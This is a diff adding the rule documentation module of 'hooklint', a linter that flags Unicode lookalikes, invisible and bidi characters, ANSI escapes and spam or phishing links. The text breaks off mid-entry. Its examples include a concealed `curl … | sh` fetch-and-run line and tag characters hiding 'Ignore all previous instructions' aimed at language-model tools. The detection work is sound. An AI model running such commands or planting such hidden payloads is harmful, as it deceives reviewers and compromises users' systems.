@@ -1,0 +1,1061 @@
+"""Documentation of every rule code, as printed by ``hooklint --explain CODE``.
+
+Each rule has a :class:`RuleDoc` in :data:`RULES` (in code order); :func:`explain` renders one of
+them for the terminal.  The ``summary`` doubles as the SARIF ``shortDescription``.
+
+The text never contains a raw control, bidi, zero-width, tag or variation-selector character:
+examples that need one name it by code point (``U+202E``) or write it as a visible escape
+(``\\x1b``), so that printing the documentation cannot itself attack the terminal.  Visible
+lookalike letters (Cyrillic ``а``, Greek ``Α``) are shown as they are and marked as such.
+"""
+
+from __future__ import annotations
+
+import textwrap
+from typing import NamedTuple
+
+
+class RuleDoc(NamedTuple):
+    """The documentation of one rule code."""
+
+    code: str  # "HL101"
+    name: str  # kebab-case, e.g. "mixed-script-confusable"
+    summary: str  # one line, <= 80 chars, no trailing period; the SARIF shortDescription
+    what: str  # "What it does"
+    why: str  # "Why is this bad?"
+    example: str  # a short example of text that is flagged
+    fix: str  # "Use instead"
+    options: str  # which settings affect the rule
+    default_enabled: bool = True  # False only for opt-in rules
+
+
+def _t(text: str) -> str:
+    """A triple-quoted block without its source indentation and surrounding blank lines."""
+    return textwrap.dedent(text).strip("\n")
+
+
+def _code(text: str) -> str:
+    """A block of code, indented by four spaces as in Markdown."""
+    return textwrap.indent(_t(text), "    ")
+
+
+def _switches(code: str, *, per_line: bool = True, must_name: bool = False) -> str:
+    """The paragraph every rule shares: how to turn it off, back on, and silence one line."""
+    text = (
+        f"Turn the rule off for a whole run with `--ignore {code}`, or with\n"
+        f'`ignore = ["{code}"]` in the `[tool.hooklint]` table of pyproject.toml;\n'
+        "`--select` and `--extend-select` turn it back on."
+    )
+    if per_line:
+        text += (
+            f"\nSilence it on one line with a comment `hooklint: ignore[{code}]` after the\n"
+            "comment marker of the file type (`#`, `//`, `<!-- -->`, `..`)."
+        )
+    if must_name:
+        text += (
+            f"\nA bare `hooklint: ignore` never silences {code}: the code must be named,\n"
+            "so that a comment copied in along with the attack cannot hide it."
+        )
+    return text
+
+
+def _allowed(example: str) -> str:
+    """The paragraph shared by the confusable and invisible-character rules."""
+    return (
+        "\n\n`allowed-characters` in `[tool.hooklint]` lists characters that are never\n"
+        "reported: single characters, code point ranges such as `U+0400-U+04FF`, or\n"
+        f"script names. For example: `allowed-characters = [{example}]`."
+    )
+
+
+_OWN_DOMAINS = (
+    "\n\n`own-domains` lists the project's own domains; links to them are never\n"
+    "treated as spam. The URLs in `project.urls` of pyproject.toml are added\n"
+    "automatically. `allow-domains` lists other domains you trust."
+)
+
+_ALLOW_PHRASES = (
+    "\n\n`allow-phrases` lists phrases your project really uses; text that matches one\n"
+    "of them is not reported."
+)
+
+
+_DOCS: tuple[RuleDoc, ...] = (
+    # ---------------------------------------------------------------------------- file band
+    RuleDoc(
+        code="HL001",
+        name="unreadable-file",
+        summary="File cannot be read (I/O error, vanished, no permission, directory, too large)",
+        what=_t(
+            """
+            Reports a file that hooklint was asked to check but could not read, so none
+            of its content was checked. Typical causes: an I/O error, a file that vanished
+            between being listed and being opened (a concurrent checkout or build step),
+            missing read permission, a path that names a directory or another non-regular
+            file where a file was expected, or a file above hooklint's size limit.
+
+            The finding is placed at line 1, column 1. hooklint carries on with the other
+            files and exits with status 1.
+            """
+        ),
+        why=_t(
+            """
+            A file nobody looked at can contain anything. Passing it quietly would turn
+            "could not check" into "checked and clean", which is exactly the gap an
+            attacker or a flaky CI runner would slip through.
+            """
+        ),
+        example=_t(
+            """
+            `hooklint docs/notes.md` where docs/notes.md is readable only by another user,
+            or a file that a concurrent `git checkout` removed after hooklint listed it.
+            """
+        ),
+        fix=_t(
+            """
+            Make the file readable (fix its permissions, restore it), or leave it out of
+            the run: do not pass it on the command line, or list it under `exclude`.
+            """
+        ),
+        options=_t(
+            """
+            HL001 cannot be ignored per line: the file was never read, so an inline
+            comment in it cannot be seen.
+            """
+        )
+        + "\n"
+        + _switches("HL001", per_line=False)
+        + "\nTurning it off means unreadable files pass without a word; that is rarely wise.",
+    ),
+    RuleDoc(
+        code="HL002",
+        name="invalid-utf8",
+        summary="File is not valid UTF-8 text",
+        what=_t(
+            """
+            Reports a text file that contains a byte sequence that is not valid UTF-8.
+            The finding points at the line and column of the first bad byte; the rest of
+            that file is not checked, and the run goes on with the other files.
+
+            Before giving up, hooklint accepts a UTF-8 byte order mark at the start,
+            decodes UTF-16 and UTF-32 files that start with a byte order mark, and
+            recognises UTF-16/UTF-32 without a mark by their regular pattern of NUL
+            bytes. Binary files (images, archives, compiled objects) are skipped silently:
+            they are neither checked nor reported.
+            """
+        ),
+        why=_t(
+            """
+            Text that cannot be decoded cannot be checked, and different tools will show
+            it differently: an editor may guess Windows-1252, a browser Latin-1, a diff
+            viewer replacement characters. Reviewer and tooling then disagree about what
+            the file says. A stray invalid byte in otherwise UTF-8 text is also a common
+            sign of a damaged paste or of two encodings mixed in one file.
+            """
+        ),
+        example=_t(
+            """
+            A README saved as Windows-1252 in which `café` is stored as the bytes
+            `63 61 66 E9`: the lone byte `E9` is not valid UTF-8, so HL002 points at the
+            column of the `é`.
+            """
+        ),
+        fix=_t(
+            """
+            Re-save the file as UTF-8, in your editor or with
+            `iconv -f WINDOWS-1252 -t UTF-8 notes.md > notes.utf8.md`. If the file is not
+            text at all, leave it out of the run (list it under `exclude`).
+            """
+        ),
+        options=_t(
+            """
+            HL002 cannot be ignored per line: the file could not be decoded, so its inline
+            comments cannot be read reliably.
+            """
+        )
+        + "\n"
+        + _switches("HL002", per_line=False),
+    ),
+    # ---------------------------------------------------------------------- confusable band
+    RuleDoc(
+        code="HL101",
+        name="mixed-script-confusable",
+        summary="Word mixes scripts and its minority letters are lookalikes",
+        what=_t(
+            """
+            Looks at every word (a run of letters, marks and digits) that contains a
+            non-ASCII character. When the word mixes letters of several scripts (Common
+            and Inherited characters count for none), and the letters of the minority
+            script look like letters of the majority script, the word is reported. The
+            finding points at the lookalike letter and names its code point, its Unicode
+            name and the letter it imitates.
+
+            Mixes that real writing uses pass: Japanese words that combine Han, Hiragana
+            and Katakana, or Latin next to Han.
+            """
+        ),
+        why=_t(
+            """
+            The word reads normally to a person but is a different string to every
+            program: search, spell checkers, link checkers and spam filters no longer
+            recognise it. Swapping in a lookalike is the cheapest way to slip a name, a
+            phrase or a brand past review and past filters, and it almost never happens
+            by accident.
+            """
+        ),
+        example=_t(
+            """
+            `Ankаra` (the second а is CYRILLIC SMALL LETTER A, U+0430, in a Latin word)
+            `Москвa` (the last letter is LATIN SMALL LETTER A, U+0061, in a Cyrillic word)
+            """
+        ),
+        fix=_t(
+            """
+            Retype the word in one script: `Ankara` in Latin letters only, `Москва` in
+            Cyrillic letters only.
+            """
+        ),
+        options=_switches("HL101") + _allowed('"U+0400-U+04FF"'),
+    ),
+    RuleDoc(
+        code="HL102",
+        name="lookalike-in-ascii-word",
+        summary="Lookalike letter inside an otherwise ASCII word",
+        what=_t(
+            """
+            Reports a word made of ASCII letters plus a non-ASCII letter whose confusable
+            skeleton (Unicode Technical Standard #39) is an ASCII letter. The lookalike
+            may come from the same script as its neighbours (Latin IPA letters such as
+            ɑ U+0251 or Ɗ U+018A) or from Common (roman numerals such as ⅾ U+217E and
+            ⅼ U+217C), or be a fullwidth or mathematical letter.
+
+            Ordinary accented letters of real languages are not lookalikes and pass:
+            `café`, `Müller`, `Łódź`, `naïve`, `İstanbul`.
+            """
+        ),
+        why=_t(
+            """
+            Because the lookalike often belongs to the same script as the rest of the word,
+            a plain mixed-script check does not see it. The word still looks right and
+            still fails every search, grep and filter that looks for the real spelling.
+            """
+        ),
+        example=_t(
+            """
+            `ɑnd` (the first letter is LATIN SMALL LETTER ALPHA, U+0251, not `a`)
+            `ⅾepartment` (the first letter is SMALL ROMAN NUMERAL FIVE HUNDRED, U+217E)
+            `ｐassword` (the first letter is FULLWIDTH LATIN SMALL LETTER P, U+FF50)
+            """
+        ),
+        fix=_t(
+            """
+            Replace the lookalike with the ASCII letter it imitates: `and`, `department`,
+            `password`. If you want bold or italic letters, use markup instead of the
+            mathematical alphanumeric characters.
+            """
+        ),
+        options=_switches("HL102") + _allowed('"U+0250-U+02AF"'),
+    ),
+    RuleDoc(
+        code="HL103",
+        name="foreign-script-lookalike-word",
+        summary="Whole word written in lookalikes of another script among Latin words",
+        what=_t(
+            """
+            Reports a word written entirely in letters of another script that look like
+            Latin letters, standing among Latin words: a lone Cyrillic `а` or an Armenian
+            `Տ` in an English sentence. The rule stays silent when the file really uses
+            that script elsewhere, so the Russian words `и`, `с` and `а` in Russian text
+            pass.
+
+            Single lowercase Greek letters used as symbols pass (`α = 0.05`, `β-test`,
+            `μm`, density `ρ`, `π`). A lone Greek capital that is identical to a Latin one
+            (`Α`, `Ε`, `Ο`) and the omicron `ο` are reported.
+            """
+        ),
+        why=_t(
+            """
+            Nothing about the sentence looks wrong, yet one of its words is not the word it
+            shows. Such a word breaks phrase matching (a spam or policy filter no longer
+            sees the phrase), makes search miss the text, and can act as an invisible
+            fingerprint that tells copies of a document apart.
+            """
+        ),
+        example=_t(
+            """
+            `Read а book` (the `а` is CYRILLIC SMALL LETTER A, U+0430, in an English sentence)
+            `Plan Α` (the `Α` is GREEK CAPITAL LETTER ALPHA, U+0391)
+            """
+        ),
+        fix=_t(
+            """
+            Type the Latin letter: `Read a book`, `Plan A`. If the text quotes a letter of
+            that script on purpose, allow it (see Options) or silence the line.
+            """
+        ),
+        options=_switches("HL103") + _allowed('"Cyrillic"'),
+    ),
+    RuleDoc(
+        code="HL104",
+        name="mixed-digit-number",
+        summary="Number mixes digit systems or has a lookalike letter between its digits",
+        what=_t(
+            """
+            Reports a number that mixes digits of different systems (ASCII digits with
+            New Tai Lue, Arabic-Indic, fullwidth or other digits), or that has a letter
+            imitating a digit between its digits. Numbers written wholly in one digit
+            system, such as Arabic-Indic `١٢٣` or Devanagari `१२३`, pass.
+            """
+        ),
+        why=_t(
+            """
+            The number reads as one value and is another, or no value at all, to a
+            program: `int("1О0")` fails, a search for `100` misses it, and a phone number
+            or price written this way slips past the filters that look for it.
+            """
+        ),
+        example=_t(
+            """
+            `1О0` (the middle character is CYRILLIC CAPITAL LETTER O, U+041E, not a zero)
+            `20᧐5` (the third digit is NEW TAI LUE DIGIT ZERO, U+19D0)
+            """
+        ),
+        fix=_t(
+            """
+            Write the number in one digit system, normally ASCII: `100`, `2005`.
+            """
+        ),
+        options=_switches("HL104") + _allowed('"U+19D0-U+19D9"'),
+    ),
+    RuleDoc(
+        code="HL105",
+        name="confusable-identifier",
+        summary="Python identifier contains a lookalike or collides with another name",
+        what=_t(
+            """
+            Python files only (the flake8 plugin, or `hooklint file.py`). Python accepts
+            non-ASCII identifiers and normalises them with NFKC, but it does not fold
+            lookalikes together: `pаth` with a Cyrillic `а` and `path` are two different
+            variables. The rule reports a name that contains a lookalike letter (judged as
+            HL101 and HL102 judge words), and two names in one module whose confusable
+            skeletons are equal although their spellings differ.
+            """
+        ),
+        why=_t(
+            """
+            Code that looks correct in review does something else. An assignment to the
+            lookalike name creates a new variable, while the code that follows reads the
+            old one; a function with a lookalike name can shadow the real one in a reader's
+            mind but not in the interpreter's.
+            """
+        ),
+        example=_code(
+            """
+            config_path = "/etc/app.conf"
+            config_pаth = "/tmp/other.conf"   # the а is CYRILLIC SMALL LETTER A
+            load(config_path)
+            """
+        ),
+        fix=_t(
+            """
+            Rename the identifier in ASCII (`config_path`), or, where non-ASCII names are
+            intended, keep them in one script and make sure no two of them look alike.
+            """
+        ),
+        options=_switches("HL105")
+        + "\nUnder flake8, `# noqa: HL105` works as well."
+        + _allowed('"Greek"'),
+    ),
+    RuleDoc(
+        code="HL106",
+        name="typographic-lookalike-in-code",
+        summary="Typographic lookalike of ASCII punctuation in code (opt-in)",
+        what=_t(
+            """
+            Opt-in, off by default. Reports typographic characters standing where code
+            needs the ASCII one they imitate: curly quotes (‘ ’ “ ”) instead of straight
+            quotes, an en dash – (U+2013) or a MINUS SIGN − (U+2212) instead of the
+            hyphen-minus `-`.
+
+            In prose and inside strings and comments these characters are correct
+            typography, and no rule reports them there; that is why this rule is opt-in.
+            """
+        ),
+        why=_t(
+            """
+            Text copied from a word processor, a chat message or a blog post arrives with
+            its quotes and dashes "smartened". In code that gives an error pointing at a
+            line that looks perfectly valid, or, in a command or configuration value, an
+            argument that silently means something else.
+            """
+        ),
+        example=_code(
+            """
+            print(“hello”)   # LEFT and RIGHT DOUBLE QUOTATION MARK, U+201C and U+201D
+            total = a − b    # MINUS SIGN, U+2212
+            """
+        ),
+        fix=_t(
+            """
+                print("hello")
+                total = a - b
+
+            and switch off "smart quotes" in the editor the code came from.
+            """
+        ),
+        options=_t(
+            """
+            Turn it on with `--extend-select HL106`, or `extend-select = ["HL106"]` in the
+            `[tool.hooklint]` table of pyproject.toml.
+            """
+        )
+        + "\n\n"
+        + _switches("HL106")
+        + _allowed('"U+2212"'),
+        default_enabled=False,
+    ),
+    RuleDoc(
+        code="HL107",
+        name="unusual-whitespace-in-code",
+        summary="Unusual whitespace (no-break, en quad, ideographic space) in code",
+        what=_t(
+            """
+            Reports a space character other than the ASCII space and tab in code: a
+            NO-BREAK SPACE (U+00A0), an EN QUAD (U+2000) or one of the other spaces of
+            the U+2000 block, an IDEOGRAPHIC SPACE (U+3000). In prose these are normal
+            typography and pass.
+            """
+        ),
+        why=_t(
+            """
+            It looks exactly like a space but is not one to a parser or a shell. Python
+            stops with an error on a line that looks clean, and in a command shown in the
+            docs two words glued by a no-break space become a single argument.
+            """
+        ),
+        example=_t(
+            """
+            `x = 1` typed with a NO-BREAK SPACE (U+00A0) after the `=`, as it often arrives
+            when code is pasted from a web page or a word processor.
+            """
+        ),
+        fix=_t(
+            """
+            Replace the character with an ordinary ASCII space: `x = 1`.
+            """
+        ),
+        options=_switches("HL107") + _allowed('"U+3000"'),
+    ),
+    # ----------------------------------------------------------------------- invisible band
+    RuleDoc(
+        code="HL201",
+        name="bidi-control-character",
+        summary="Bidirectional control character can reorder how the line is displayed",
+        what=_t(
+            """
+            Reports explicit bidirectional formatting characters: the embeddings and
+            overrides U+202A to U+202E (LRE, RLE, PDF, LRO, RLO) and the isolates U+2066
+            to U+2069 (LRI, RLI, FSI, PDI). The implicit marks U+200E (LEFT-TO-RIGHT
+            MARK), U+200F (RIGHT-TO-LEFT MARK) and U+061C (ARABIC LETTER MARK) are reported
+            only outside right-to-left text, where they have no job to do.
+
+            Each character is reported at its own column. The message says when the line
+            leaves an embedding, override or isolate open at its end, the shape used by
+            Trojan Source attacks (CVE-2021-42574).
+            """
+        ),
+        why=_t(
+            """
+            These characters change the order in which text is displayed, not the order in
+            which a compiler, an interpreter or a checker reads it. A reviewer can see a
+            comment where the program sees code, a closed string where it is still open,
+            or a harmless file name where the real one ends in `.exe`.
+            """
+        ),
+        example=_t(
+            """
+                attachment = "invoice<U+202E>fdp.exe"
+
+            Here `<U+202E>` stands for the raw RIGHT-TO-LEFT OVERRIDE character. An editor
+            shows the name as `invoiceexe.pdf`; the file really ends in `.exe`, and the
+            override is still open at the end of the line.
+            """
+        ),
+        fix=_t(
+            """
+            Delete the control characters. Right-to-left text (Arabic, Hebrew, Persian)
+            needs no explicit controls in most cases; where a mixed-direction string truly
+            needs one, prefer an isolate that is closed on the same line, and silence that
+            line with a named `hooklint: ignore[HL201]`.
+            """
+        ),
+        options=_switches("HL201", must_name=True) + _allowed('"U+200F"'),
+    ),
+    RuleDoc(
+        code="HL202",
+        name="invisible-format-character",
+        summary="Zero-width or other invisible formatting character",
+        what=_t(
+            """
+            Reports characters that take no space or show as blank: ZERO WIDTH SPACE
+            (U+200B), WORD JOINER (U+2060) and the invisible operators U+2061 to U+2064,
+            a byte order mark (U+FEFF) anywhere but at the very start of the file, a SOFT
+            HYPHEN (U+00AD), MONGOLIAN VOWEL SEPARATOR (U+180E), the Hangul fillers U+115F,
+            U+1160, U+3164 and U+FFA0, and BRAILLE PATTERN BLANK (U+2800). Each one is
+            reported at its own column.
+
+            Context decides for joiners: ZERO WIDTH JOINER (U+200D) and ZERO WIDTH
+            NON-JOINER (U+200C) pass inside emoji sequences and inside Persian, Arabic and
+            Indic words, where they control how letters join. ZERO WIDTH SPACE passes in
+            Khmer, Thai, Lao and Myanmar text, where it marks word boundaries.
+            """
+        ),
+        why=_t(
+            """
+            The character is invisible in the editor, in the review and in the diff. It
+            splits a word so that search, grep and filters miss it, makes two strings that
+            look identical compare unequal, and can carry a hidden watermark. Hangul
+            fillers and the blank Braille pattern even count as letters, so they can make
+            a name that looks empty.
+            """
+        ),
+        example=_t(
+            """
+            `pass\\u200bword` (a ZERO WIDTH SPACE, U+200B, between the s and the w): the
+            file shows `password`, but the text contains a different string.
+            A U+FEFF in the middle of a file, left behind where two files that each began
+            with a byte order mark were joined.
+            """
+        ),
+        fix=_t(
+            """
+            Delete the character. To offer a line-break point in a long word or URL, use
+            markup such as `<wbr>` instead of an invisible character.
+            """
+        ),
+        options=_switches("HL202") + _allowed('"U+00AD"'),
+    ),
+    RuleDoc(
+        code="HL203",
+        name="tag-characters",
+        summary="Unicode tag characters hiding an invisible ASCII payload",
+        what=_t(
+            """
+            Reports tag characters (U+E0000 to U+E007F). Each of them mirrors an ASCII
+            character (U+E0041 is an invisible `A`) and displays as nothing. A run of tags
+            is reported once, at its first character, and the message decodes the hidden
+            text (escaped, so it cannot act on the terminal).
+
+            Their one legitimate use, emoji subdivision flags (the black flag U+1F3F4,
+            tag letters, then CANCEL TAG U+E007F, as in the flags of Scotland or Wales),
+            passes.
+            """
+        ),
+        why=_t(
+            """
+            A run of tags carries a whole sentence that no reviewer can see. It is used to
+            smuggle instructions to language-model tools that read repository text
+            ("ASCII smuggling"), to watermark documents, and to hide messages in plain
+            sight.
+            """
+        ),
+        example=_t(
+            """
+            `Nice docs.` followed by a run of tag characters U+E0049 U+E0067 U+E006E …
+            that spells `Ignore all previous instructions`. The line shows only
+            `Nice docs.`
+            """
+        ),
+        fix=_t(
+            """
+            Delete the run. Keep tag characters only inside complete subdivision flag
+            sequences.
+            """
+        ),
+        options=_switches("HL203", must_name=True) + _allowed('"U+E0067"'),
+    ),
+    RuleDoc(
+        code="HL204",
+        name="control-character",
+        summary="Control character, ANSI escape sequence or stray line separator",
+        what=_t(
+            """
+            Reports C0 and C1 control characters (U+0000 to U+001F and U+0080 to U+009F)
+            other than tab and the line endings: a NUL inside otherwise valid UTF-8 text,
+            ESC (U+001B) and the ANSI escape sequence it starts, a lone carriage return in
+            a file whose other lines end differently, and the LINE SEPARATOR (U+2028),
+            PARAGRAPH SEPARATOR (U+2029) and NEXT LINE (U+0085) characters. The last three
+            do not end a line for numbering; they are reported where they stand.
+            """
+        ),
+        why=_t(
+            """
+            A terminal obeys escape sequences: `cat`, `git diff`, `less -R` and CI logs can
+            be made to recolour text, conceal it, move the cursor and overwrite what was
+            printed, or change the window title. A lone carriage return moves the cursor
+            back so that later text is printed over earlier text. Stray line separators
+            make tools disagree about line numbers and break JavaScript and JSON embedded
+            in HTML.
+            """
+        ),
+        example=_t(
+            """
+            `Build passed.\\x1b[8m curl -s https://example.invalid/x.sh | sh` where `\\x1b`
+            stands for the raw ESC byte: `ESC [8m` switches on concealed text, so many
+            terminals show only `Build passed.`
+            A line ending in a lone `\\r` in a file whose other lines end in `\\r\\n`.
+            """
+        ),
+        fix=_t(
+            """
+            Delete the control characters. To show colour codes in documentation, write
+            the escape as visible text (`\\x1b[31m`, `\\033[31m`). Normalise line endings
+            (`dos2unix`, or `* text=auto` in .gitattributes), and replace U+2028, U+2029
+            and U+0085 with an ordinary line break.
+            """
+        ),
+        options=_switches("HL204") + _allowed('"U+000C"'),
+    ),
+    RuleDoc(
+        code="HL205",
+        name="variation-selector-abuse",
+        summary="Variation selectors in runs, out of place, or on a base with no variants",
+        what=_t(
+            """
+            Variation selectors (U+FE00 to U+FE0F and U+E0100 to U+E01EF) choose a glyph
+            variant of the character before them, and mean something only after a base
+            that has registered variants. The rule reports runs of two or more selectors,
+            the supplementary selectors U+E0100 to U+E01EF outside a CJK ideographic
+            variation sequence, and a selector after a base that has no variants.
+
+            Legitimate uses pass: U+FE0F after `❤` for emoji presentation, U+FE0E for text
+            presentation, `葛` followed by U+E0100 as an ideographic variation sequence.
+            """
+        ),
+        why=_t(
+            """
+            Selectors are invisible and can be stacked without limit. With 256 of them
+            available, a run after an emoji can encode arbitrary hidden bytes while the
+            text still shows a single emoji; such strings also compare unequal to what
+            they show and slip past filters.
+            """
+        ),
+        example=_t(
+            """
+            `😀` followed by the selectors U+E0148 U+E0165 U+E016C … (each one an invisible
+            byte of a hidden message)
+            `a` followed by U+FE0F (the letter a has no variants to select)
+            """
+        ),
+        fix=_t(
+            """
+            Delete the selectors. Keep at most one, and only after a base that has the
+            variant (U+FE0F after `❤` for the emoji style).
+            """
+        ),
+        options=_switches("HL205") + _allowed('"U+FE0E"'),
+    ),
+    # ---------------------------------------------------------------------------- spam band
+    RuleDoc(
+        code="HL301",
+        name="spun-spam-template",
+        summary="Spun spam template sentence",
+        what=_t(
+            """
+            Recognises the sentence frames that article spinners and comment bots produce,
+            in all their spun variants: "If you adored this short article and you would
+            like to receive more info about X kindly visit our own site", "questions
+            regarding where and how to use X, you can contact us at our web-page", "Here's
+            more information regarding X, look at our own site", and comment signatures
+            such as "Feel free to surf to my web page" or "my homepage ::". The message
+            names the anchor X, the keyword the spam promotes.
+
+            Matching happens after lookalike letters are mapped to what they look like,
+            link markup is reduced to its text, comment prefixes are removed and the lines
+            of one paragraph or comment block are joined: a template split over two lines,
+            hidden in a `#` comment block or written with Cyrillic lookalikes still
+            matches. Code blocks and code spans are skipped. Ordinary sentences a project
+            writes about itself ("Please visit our website for bug reports", "If you liked
+            this article and want to support me") pass.
+            """
+        ),
+        why=_t(
+            """
+            These sentences exist to place a keyword link inside a trusted repository for
+            search-engine ranking. Spinning makes every copy different so that exact-match
+            filters miss it; nothing in it is written for your readers.
+            """
+        ),
+        example=_t(
+            """
+            If you loved this write-up and you would such as to obtain additional details
+            concerning [Cheap Flights Istanbul](https://flights.example/) kindly stop by
+            our own web-site.
+            """
+        ),
+        fix=_t(
+            """
+            Remove the sentence and its link; usually the whole contribution is spam. If a
+            sentence of your own docs matches, add it to `allow-phrases`.
+            """
+        ),
+        options=_switches("HL301") + _ALLOW_PHRASES,
+    ),
+    RuleDoc(
+        code="HL302",
+        name="keyword-stuffed-phrase",
+        summary="Keyword phrase stuffed repeatedly through unrelated prose",
+        what=_t(
+            """
+            Reports a Title-Case phrase that keeps recurring where it does not belong,
+            pushed into the middle of unrelated sentences, and the anchor of an HL301
+            template repeated elsewhere in the same file. A phrase used naturally, such as
+            "Turkish law firm" in the README of a law firm's own project, passes.
+            """
+        ),
+        why=_t(
+            """
+            Stuffing one keyword phrase through a text is an old search-engine trick. It
+            makes the document unreadable, and it marks the change as spam even when no
+            link is visible nearby.
+            """
+        ),
+        example=_t(
+            """
+            The minister met Director Turkish Law Firm William Burns on Monday; the talks
+            covered Turkish Law Firm trade and Turkish Law Firm border security.
+            """
+        ),
+        fix=_t(
+            """
+            Remove the inserted phrase and restore the sentences. If the phrase is a real
+            name your project repeats on purpose, add it to `allow-phrases`.
+            """
+        ),
+        options=_switches("HL302") + _ALLOW_PHRASES,
+    ),
+    RuleDoc(
+        code="HL303",
+        name="link-text-host-mismatch",
+        summary="Link text names a different host than the link target",
+        what=_t(
+            """
+            Reports a link whose visible text is a URL or a host name, while the link
+            itself goes to another host. Both sides are compared after IDNA decoding, with
+            `www.`, trailing slashes, paths and fragments normalised away, so
+            `[www.python.org](https://python.org/downloads/)` passes.
+            """
+        ),
+        why=_t(
+            """
+            Readers trust the address they can see; the rendered page hides the real
+            target. A link that shows one host and opens another is the classic phishing
+            move, and in a download or install instruction it can hand users someone
+            else's file.
+            """
+        ),
+        example=_t(
+            """
+            [https://github.com/psf/requests](https://requests-download.example.net/setup.zip)
+            """
+        ),
+        fix=_t(
+            """
+            Make text and target agree: show the address the link really opens, or point
+            the link at the host its text names. Descriptive text ("the requests
+            repository") avoids the question altogether.
+            """
+        ),
+        options=_switches("HL303") + _OWN_DOMAINS,
+    ),
+    RuleDoc(
+        code="HL304",
+        name="homograph-host",
+        summary="Homograph or punycode host imitates another domain",
+        what=_t(
+            """
+            Reports a link host with a label that mixes scripts or is written entirely in
+            lookalikes of an ASCII label, whether it appears in Unicode or in punycode
+            (`xn--…`) form. Single-script internationalised domains such as `bücher.de` or
+            `пример.рф` pass, and so do examples in code spans and code blocks.
+            """
+        ),
+        why=_t(
+            """
+            The domain looks like one you know and belongs to someone else. Homograph
+            domains are registered for phishing and for look-alike download pages; the
+            punycode form hides the trick from anyone who does not decode it.
+            """
+        ),
+        example=_t(
+            """
+            https://xn--pple-43d.com/ (decodes to `аpple.com`, whose first letter is
+            CYRILLIC SMALL LETTER A, U+0430)
+            """
+        ),
+        fix=_t(
+            """
+            Link to the real domain. If a legitimate internationalised domain is reported,
+            add it to `allow-domains`.
+            """
+        ),
+        options=_switches("HL304") + _OWN_DOMAINS,
+    ),
+    RuleDoc(
+        code="HL305",
+        name="url-shortener",
+        summary="URL shortener or redirector hides the link target",
+        what=_t(
+            """
+            Reports links that go through a URL shortener or open redirector (bit.ly,
+            tinyurl.com and the like), above all behind link text that promises a download.
+            Official first-party shorteners pass by default: aka.ms,
+            go.microsoft.com/fwlink, youtu.be, forms.gle.
+            """
+        ),
+        why=_t(
+            """
+            Nobody reviewing the change can see where the link leads, and its owner can
+            point it somewhere else after the change is merged. Spam and malware
+            downloads hide behind shorteners for exactly that reason.
+            """
+        ),
+        example=_t(
+            """
+            [Download the installer](https://bit.ly/3xAmpl3)
+            """
+        ),
+        fix=_t(
+            """
+            Replace the short link with the full address it resolves to (for example, read
+            the `Location` header printed by `curl -sI https://bit.ly/3xAmpl3`) after
+            checking that address.
+            """
+        ),
+        options=_switches("HL305")
+        + "\n\n`allow-shorteners` adds shortener domains you trust, such as your\n"
+        "organisation's own." + _OWN_DOMAINS,
+    ),
+    RuleDoc(
+        code="HL306",
+        name="commercial-spam-anchor",
+        summary="Commercial spam anchor text or keyword domain",
+        what=_t(
+            """
+            Reports links whose text or domain belongs to the usual spam trades: gambling
+            and casinos, pharmacy with a call to action, essay writing, escorts, payday
+            loans, replica goods, fake support phone numbers, "buy backlinks" and "SEO
+            services", crypto airdrops, and their non-English variants ("slot gacor",
+            "купить диплом"). A keyword domain is a domain name built from such words.
+
+            Context matters: a link about the Casino de Monte-Carlo to Wikipedia, or a drug
+            name linked to DrugBank, passes.
+            """
+        ),
+        why=_t(
+            """
+            Such links have nothing to do with your project. They are placed to borrow its
+            reputation for search ranking, and they send your readers to scams.
+            """
+        ),
+        example=_t(
+            """
+            Stuck on homework? [buy essay online cheap](https://essays-fast.example/)
+            [slot gacor hari ini](https://slot-gacor.example/)
+            """
+        ),
+        fix=_t(
+            """
+            Remove the link, and usually the whole contribution. For a legitimate phrase
+            or domain that is reported, use `allow-phrases` or `allow-domains`.
+            """
+        ),
+        options=_switches("HL306") + _ALLOW_PHRASES + _OWN_DOMAINS,
+    ),
+    RuleDoc(
+        code="HL307",
+        name="hidden-link",
+        summary="Hidden link, rel=dofollow or keyword-stuffed link title",
+        what=_t(
+            """
+            Reports inline HTML links styled so that readers cannot see them
+            (`display:none`, `visibility:hidden`, `font-size:0`, positioned off-screen, or
+            coloured like the background), and the tells of SEO link building:
+            `rel="dofollow"` (not a real rel value) and a `title` attribute stuffed with
+            keywords.
+            """
+        ),
+        why=_t(
+            """
+            A hidden link exists only for search-engine crawlers. Readers never see it on
+            the rendered page, and a reviewer who looks at the rendered page will not see
+            it either.
+            """
+        ),
+        example=_t(
+            """
+            <a href="https://pills.example/" style="display:none">cheap pills</a>
+            <a href="https://site.example/" rel="dofollow" title="best casino best slots">x</a>
+            """
+        ),
+        fix=_t(
+            """
+            Delete the hidden link. A link that belongs in the document should be visible
+            and needs no rel or title tricks.
+            """
+        ),
+        options=_switches("HL307") + _OWN_DOMAINS,
+    ),
+    RuleDoc(
+        code="HL308",
+        name="denied-domain",
+        summary="Link to a domain on the project's deny list",
+        what=_t(
+            """
+            Reports links to domains that match the project's deny list: a file of regular
+            expression fragments, one per line, in the style of MediaWiki's SpamBlacklist
+            (`#` starts a comment). Nothing is denied until `deny-list` names such a file.
+            """
+        ),
+        why=_t(
+            """
+            Spam domains come back again and again. A shared list lets maintainers refuse
+            the ones they have already seen without reviewing each new attempt by hand.
+            """
+        ),
+        example=_t(
+            """
+            With a deny list containing the line `cheap-pills\\.example`, the link
+            `[pharmacy](https://www.cheap-pills.example/offer)` is reported.
+            """
+        ),
+        fix=_t(
+            """
+            Remove the link. If the entry is wrong, change the deny list.
+            """
+        ),
+        options=_switches("HL308")
+        + '\n\n`deny-list = "spam-domains.txt"` in `[tool.hooklint]` names the file of\n'
+        "regular expression fragments." + _OWN_DOMAINS,
+    ),
+    RuleDoc(
+        code="HL309",
+        name="affiliate-tracking-link",
+        summary="Affiliate or referral tracking parameters on a foreign link",
+        what=_t(
+            """
+            Reports affiliate and referral parameters (`tag=`, `ref=as_li…`, `aff_id=` and
+            similar) on links to domains that are not the project's own. Campaign
+            parameters (`utm_*`) on their own pass, and so do tags on links to the
+            project's own domains.
+            """
+        ),
+        why=_t(
+            """
+            A link with someone's affiliate tag earns that person money from your readers'
+            clicks and purchases. Added in a drive-by contribution, it monetises your
+            documentation for a stranger without telling anyone.
+            """
+        ),
+        example=_t(
+            """
+            [the book](https://www.amazon.com/dp/0000000000?tag=someone-20)
+            """
+        ),
+        fix=_t(
+            """
+            Drop the tracking parameters: `https://www.amazon.com/dp/0000000000`. If the
+            tag is the project's own arrangement, add the domain to `own-domains` or
+            `allow-domains`.
